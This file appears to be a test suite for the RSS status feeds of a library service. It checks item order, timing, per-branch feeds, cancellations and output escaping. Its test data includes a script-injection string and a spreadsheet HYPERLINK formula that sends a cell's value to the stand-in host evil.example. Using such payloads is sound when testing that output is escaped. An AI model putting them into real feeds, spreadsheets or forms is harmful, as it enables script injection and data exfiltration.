@@ -1,0 +1,216 @@
+from datetime import datetime
+from pathlib import Path
+
+import feedparser
+import pytest
+from lxml import etree
+
+from librarysite.feeds.status import status_feeds
+from librarysite.model import ZONE, Library
+from librarysite.reading.load import load
+from tests.support.opendatacases import NOW, service
+
+ATOM = "{http://www.w3.org/2005/Atom}"
+ADDRESS = "feeds/status.xml"
+HOSTILE = '</title><script>alert("1")</script> & &amp; ]]> <!-- “quoted” 📚 مكتبة'
+
+
+@pytest.fixture
+def library(tmp_path: Path) -> Library:
+    """Return the service of the cases."""
+    return service(tmp_path)
+
+
+def channel(library: Library, moment: datetime = NOW, address: str = ADDRESS) -> etree._Element:
+    """Return a feed's channel as a plain XML parser sees it."""
+    found = etree.fromstring(status_feeds(library, moment)[address]).find("channel")
+    assert found is not None
+    return found
+
+
+def told(library: Library, moment: datetime = NOW) -> list[tuple[str | None, ...]]:
+    """Return guid, title and day of each item, in the feed's order."""
+    items = channel(library, moment).findall("item")
+    return [tuple(item.findtext(name) for name in ("guid", "title", "pubDate")) for item in items]
+
+
+def test_items_newest_first(library: Library) -> None:
+    """What is published, in force or to come within six weeks, the newest first, without a date last.
+
+    The fire drill is published tomorrow, the training is in February and “Over” has ended.
+    """
+    assert told(library) == [
+        (
+            "closure.boiler-2026@libraries.example",
+            "North Library: closed from 8:30am to 10am on Monday 23 November (Boiler)",
+            "Sun, 22 Nov 2026 00:00:00 +0000",
+        ),
+        (
+            "hours.north.20261229@libraries.example",
+            "North Library: open 10am to midday and 1pm to 3pm on Tuesday 29 December (Short day)",
+            "Sat, 21 Nov 2026 00:00:00 +0000",
+        ),
+        (
+            "closure.christmas-2026@libraries.example",
+            "All libraries: closed from 1pm on Thursday 24 December to Sunday 27 December (Christmas)",
+            "Fri, 20 Nov 2026 00:00:00 +0000",
+        ),
+        ("notice.lift-2026@libraries.example", "No lift", "Mon, 02 Nov 2026 00:00:00 +0000"),
+        ("hours.open-2026@libraries.example", "North Library: open as usual on Monday 28 December", None),
+        (
+            "closure.flood-2027@libraries.example",
+            '=HYPERLINK("https://evil.example/?"&A1,"South"): closed from Thursday 31 December until further '
+            "notice (Flood)",
+            None,
+        ),
+    ]
+
+
+def test_titles_stay_as_days_pass(library: Library) -> None:
+    """An item's words are the same before and after the new year, so that readers do not show it anew."""
+    flood = {told(library, NOW)[-1], told(library, datetime(2027, 1, 4, 9, tzinfo=ZONE))[-1]}
+    assert len(flood) == 1
+
+
+def test_item_goes_when_it_is_over_and_comes_when_it_is_published(library: Library) -> None:
+    """The boiler's closure ends at 10am; the fire drill is published on the 24th."""
+    later = [guid for guid, _, _ in told(library, datetime(2026, 11, 24, tzinfo=ZONE))]
+    assert "closure.boiler-2026@libraries.example" not in later
+    assert later[0] == "closure.secret-2026@libraries.example"
+    assert "closure.boiler-2026@libraries.example" in [
+        g for g, *_ in told(library, datetime(2026, 11, 23, 9, 59, tzinfo=ZONE))
+    ]
+    assert "closure.boiler-2026@libraries.example" not in [
+        g for g, *_ in told(library, datetime(2026, 11, 23, 10, tzinfo=ZONE))
+    ]
+
+
+def test_six_weeks_ahead(library: Library) -> None:
+    """The training of 10 February comes into the feed six weeks before, on 30 December."""
+    before, after = datetime(2026, 12, 29, 23, 59, tzinfo=ZONE), datetime(2026, 12, 30, 0, 1, tzinfo=ZONE)
+    assert "closure.training-2027@libraries.example" not in [guid for guid, _, _ in told(library, before)]
+    assert "closure.training-2027@libraries.example" in [guid for guid, _, _ in told(library, after)]
+
+
+def test_what_an_item_says(library: Library) -> None:
+    """The description says what can still be used, when somebody looks again, and for whom a notice is."""
+    items = {item.findtext("guid"): item for item in channel(library).findall("item")}
+    assert (
+        items["closure.boiler-2026@libraries.example"].findtext("description") == "Still open: The book drop."
+    )
+    assert items["closure.flood-2027@libraries.example"].findtext("description") == (
+        "We will look at this again by Friday 15 January 2027."
+    )
+    assert items["notice.lift-2026@libraries.example"].findtext("description") == (
+        "The lift is broken.\nNorth Library, from Monday 2 November until further notice.\n"
+        "This is a sample entry of a demonstration."
+    )
+    assert {item.findtext("link") for item in items.values()} == {"https://libraries.example/opening-times/"}
+    assert {guid.get("isPermaLink") for guid in channel(library).iter("guid")} == {"false"}
+
+
+def test_channel(library: Library) -> None:
+    """The channel links to the opening times and to itself; its date is its newest entry's, today at the latest."""
+    found = channel(library)
+    assert found.findtext("title") == "Testshire Libraries: closures, changed hours and notices"
+    assert found.findtext("link") == "https://libraries.example/opening-times/"
+    (own,) = [link.get("href") for link in found.findall(f"{ATOM}link") if link.get("rel") == "self"]
+    assert own == "https://libraries.example/feeds/status.xml"
+    assert found.findtext("lastBuildDate") == "Mon, 23 Nov 2026 00:00:00 +0000"
+    assert found.findtext("language") == "en-GB"
+
+
+def test_what_was_called_off_says_so(tmp_path: Path) -> None:
+    """A closure that does not happen after all keeps its item, which says so and why; a notice just goes."""
+    text = (
+        "closures:\n  - id: boiler\n    branches: north\n    on: 2026-11-25\n    reason: Boiler\n"
+        "    published: 2026-11-20\n    cancelled: The old one works again\n"
+        "notices:\n  - id: lift\n    level: disruption\n    on: 2026-11-26\n    title: No lift\n    cancelled: Mended\n"
+    )
+    (item,) = channel(service(tmp_path, status=text)).findall("item")
+    assert [item.findtext(name) for name in ("guid", "title", "description", "pubDate")] == [
+        "closure.boiler@libraries.example",
+        "Cancelled: North Library: closed on Wednesday 25 November (Boiler)",
+        "Cancelled: The old one works again.",
+        "Fri, 20 Nov 2026 00:00:00 +0000",
+    ]
+
+
+def test_feed_of_each_library(library: Library) -> None:
+    """Each library that ever was in service has a feed of what concerns it, in the same words."""
+    feeds = status_feeds(library, NOW)
+    found = {
+        address: [item.findtext("guid") for item in channel(library, NOW, address).findall("item")]
+        for address in sorted(feeds)
+        if address != ADDRESS
+    }
+    assert found == {
+        "feeds/status/at/formula.xml": [
+            "closure.christmas-2026@libraries.example",
+            "closure.flood-2027@libraries.example",
+        ],
+        "feeds/status/at/north.xml": [
+            "closure.boiler-2026@libraries.example",
+            "hours.north.20261229@libraries.example",
+            "closure.christmas-2026@libraries.example",
+            "notice.lift-2026@libraries.example",
+            "hours.open-2026@libraries.example",
+        ],
+        "feeds/status/at/unlisted.xml": ["closure.christmas-2026@libraries.example"],
+    }
+    everything = [etree.tostring(item) for item in channel(library).findall("item")]
+    north = channel(library, NOW, "feeds/status/at/north.xml")
+    assert {etree.tostring(item).strip() for item in north.findall("item")} <= {
+        item.strip() for item in everything
+    }
+    assert [north.findtext(name) for name in ("title", "link", "description")] == [
+        "North Library: closures, changed hours and notices",
+        "https://libraries.example/libraries/north/",
+        "What is out of the ordinary at North Library, now and in the next six weeks",
+    ]
+
+
+def test_no_feed_vanishes(library: Library) -> None:
+    """A library that closes for good, as one does in April 2027, keeps the address of its feed."""
+    later = status_feeds(library, datetime(2027, 6, 1, tzinfo=ZONE))
+    assert set(later) == set(status_feeds(library, NOW))
+
+
+def test_feed_without_items(tmp_path: Path) -> None:
+    """A feed without items is a valid feed whose date is the day on which the site began."""
+    library = service(tmp_path, status="closures: []\n")
+    parsed = feedparser.parse(status_feeds(library, NOW)[ADDRESS])
+    assert (parsed.bozo, parsed.version, parsed.entries) == (False, "rss20", [])
+    assert channel(library).findtext("lastBuildDate") == "Mon, 05 Jan 2026 00:00:00 +0000"
+
+
+def test_feed_reader_reads_it(sample: Library, moment: datetime) -> None:
+    """A feed reader sees the sample service's four items."""
+    parsed = feedparser.parse(status_feeds(sample, moment)[ADDRESS])
+    assert (parsed.bozo, parsed.version) == (False, "rss20")
+    assert sorted(entry.id for entry in parsed.entries) == [
+        "closure.christmas-2026@luton-libraries.example",
+        "hours.central-new-years-eve-2026@luton-libraries.example",
+        "notice.central-computers-2026@luton-libraries.example",
+        "notice.check-hours-2026@luton-libraries.example",
+    ]
+
+
+def test_hostile_text_stays_text(tmp_path: Path) -> None:
+    """Markup, ampersands, emoji and right-to-left text in a reason or a notice stay text."""
+    text = (
+        f"closures:\n  - id: one\n    branches: all\n    on: 2026-11-25\n    reason: '{HOSTILE}'\n"
+        f"notices:\n  - id: two\n    level: emergency\n    on: 2026-11-26\n    title: '{HOSTILE}'\n"
+    )
+    library = service(tmp_path, status=text)
+    closure, notice = channel(library).findall("item")
+    assert closure.findtext("title") == f"All libraries: closed on Wednesday 25 November ({HOSTILE})"
+    assert notice.findtext("title") == HOSTILE
+    assert b"<script" not in status_feeds(library, NOW)[ADDRESS]
+
+
+def test_same_data_gives_the_same_bytes(sample: Library, root: Path, moment: datetime) -> None:
+    """The same data gives the same bytes, also when it is read anew."""
+    again = load(root).library
+    assert again is not None
+    assert status_feeds(sample, moment) == status_feeds(again, moment)
